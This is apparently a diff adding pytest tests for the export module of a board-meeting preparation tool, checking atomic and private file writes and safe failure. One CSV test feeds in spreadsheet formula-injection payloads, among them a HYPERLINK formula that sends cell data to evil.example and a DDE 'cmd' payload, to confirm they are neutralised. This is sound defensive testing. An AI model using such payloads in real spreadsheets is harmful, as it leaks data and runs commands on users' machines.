@@ -1,16 +1,23 @@
 from __future__ import annotations
 
 import csv
+import errno
 import json
+import os
+import signal
+import stat
+import subprocess
+import sys
 from pathlib import Path
 
 import docx
 import pymupdf
 import pytest
 
-from boardprep.core.errors import UsageError
+from boardprep.core.errors import BoardprepError, UsageError
 from boardprep.core.export import EXPORTERS, export
 from boardprep.core.export.declarations import sentence
+from boardprep.core.export.output import ExportError
 from boardprep.core.model import AgendaTree, Meeting
 from boardprep.core.store import Store
 from tests.store.fixtures import RIVERSIDE_QUOTE
@@ -172,3 +179,143 @@ def test_everything_json_and_unsupported_pairs(filled, tmp_path: Path) -> None:
     with pytest.raises(UsageError, match="valid formats for declarations: pdf, docx, md"):
         export(store, sha, "declarations", "csv", tmp_path / "x.csv")
     assert set(EXPORTERS["annotated-pdf"]) == {"pdf"}
+
+
+# ---- safety: atomic files, private files, formulas, a database that cannot be written ----------
+
+
+def test_csv_cells_that_would_start_a_formula_are_neutralised(filled, tmp_path: Path) -> None:
+    store, sha, _ = filled
+    evil = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
+            "\tx", "\r=1", "plain - text", "a=b"]  # fmt: skip
+    for text in evil:
+        store.add_question(sha, "5", text, asker="=cmd|' /C calc'!A0")
+    export(store, sha, "questions", "csv", tmp_path / "q.csv")
+    rows = list(csv.DictReader((tmp_path / "q.csv").open(encoding="utf-8", newline="")))
+    got = {r["question"] for r in rows if r["item"] == "5"}
+    assert got == {"'" + t for t in evil[:6]} | {"plain - text", "a=b"}
+    assert {r["asker"] for r in rows if r["item"] == "5"} == {"'=cmd|' /C calc'!A0"}
+    raw = (tmp_path / "q.csv").read_text(encoding="utf-8")
+    line = next(x for x in raw.splitlines() if "HYPERLINK" in x)
+    assert line.split(",", 3)[3].startswith("\"'=HYPERLINK")
+
+
+@pytest.mark.parametrize(
+    ("what", "fmt"), [(w, f) for w, fs in EXPORTERS.items() for f in fs]
+)  # fmt: skip
+def test_every_export_is_private_and_replaces_atomically(
+    filled, tmp_path: Path, pack1, what: str, fmt: str
+) -> None:
+    store, sha, _ = filled
+    out = tmp_path / "out" / f"x.{fmt}"
+    out.parent.mkdir()
+    out.write_text("previous")
+    os.chmod(out, 0o644)
+    export(store, sha, what, fmt, out, pack_path=str(pack1[0]))
+    assert out.read_bytes() != b"previous" and out.stat().st_size > 0
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600
+    assert [p.name for p in out.parent.iterdir()] == [out.name]
+
+
+def test_a_failing_export_leaves_the_previous_file(
+    filled, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from boardprep.core.export import questions
+
+    store, sha, _ = filled
+    out = tmp_path / "out" / "q.docx"
+    out.parent.mkdir()
+    out.write_text("the good backup")
+
+    def broken(_store: Store, _sha: str, tmp: Path) -> None:
+        Path(tmp).write_text("half")
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(questions, "to_docx", broken)
+    with pytest.raises(ExportError, match=r"cannot write .*q.docx: the disk is full"):
+        export(store, sha, "questions", "docx", out)
+    assert out.read_text() == "the good backup"
+    assert [p.name for p in out.parent.iterdir()] == ["q.docx"]
+    with pytest.raises(ExportError, match="the folder does not exist"):
+        export(store, sha, "questions", "md", tmp_path / "missing" / "q.md")
+
+
+_KILLED_CHILD = """
+import sys, time
+from boardprep.core.export import export, backup
+from boardprep.core.store import Store
+
+def slow_write(bundle, out):
+    with open(out, "w") as fh:
+        fh.write('{"format": "boardprep-bundle", "half": ')
+        fh.flush()
+        print("writing", flush=True)
+        time.sleep(60)
+
+backup.write_bundle = slow_write
+with Store(sys.argv[1]) as s:
+    export(s, sys.argv[2], "everything", "json", sys.argv[3])
+"""
+
+
+def test_an_export_killed_mid_write_leaves_the_previous_file(
+    filled, tmp_path: Path, data_dir: Path
+) -> None:
+    store, sha, _ = filled
+    out = tmp_path / "backup.json"
+    export(store, sha, "everything", "json", out)
+    good = out.read_bytes()
+    proc = subprocess.Popen(
+        [sys.executable, "-c", _KILLED_CHILD, str(data_dir), sha, str(out)],
+        stdout=subprocess.PIPE, text=True, cwd=Path(__file__).resolve().parents[2],
+    )  # fmt: skip
+    try:
+        assert proc.stdout is not None and proc.stdout.readline().strip() == "writing"
+        os.kill(proc.pid, signal.SIGKILL)
+    finally:
+        proc.wait(timeout=30)
+    assert out.read_bytes() == good
+    assert json.loads(good)["kind"] == "backup"
+
+
+def test_cli_export_works_when_the_database_cannot_be_written(
+    filled, tmp_path: Path, data_dir: Path, pack1, monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:  # fmt: skip
+    from boardprep import cli
+    from boardprep.core.errors import DiskFullError
+    from boardprep.core.store import packref
+    from boardprep.core.store.packs import PackRegistry
+
+    store, _sha, tree = filled
+    store.close()
+    monkeypatch.setattr(packref, "analyze_pack", lambda _p, _d: tree)
+
+    def full(*_a: object, **_k: object) -> None:
+        raise DiskFullError("the disk holding the database is full")
+
+    monkeypatch.setattr(PackRegistry, "register_pack", full)
+    out = tmp_path / "q.md"
+    code = cli.main(["--data-dir", str(data_dir), "export", str(pack1[0]), "--what",
+                     "questions", "--format", "md", "-o", str(out)])  # fmt: skip
+    _, err = capsys.readouterr()
+    assert code == 0, err
+    assert "disk holding the database is full" in err
+    assert "What is the contingency on the footbridge?" in out.read_text()
+
+
+def test_reading_store_never_writes(filled, tmp_path: Path, data_dir: Path) -> None:
+    import sqlite3
+
+    from boardprep.core.export.reading import open_for_reading
+
+    _store, sha, _ = filled
+    reader = open_for_reading(data_dir)
+    try:
+        assert len(reader.questions(sha)) == 3
+        with pytest.raises((sqlite3.Error, BoardprepError)):
+            reader.add_question(sha, "4", "must not be written")
+    finally:
+        reader.close()
+    with pytest.raises(ExportError, match="no boardprep database"):
+        open_for_reading(tmp_path / "empty-dir")
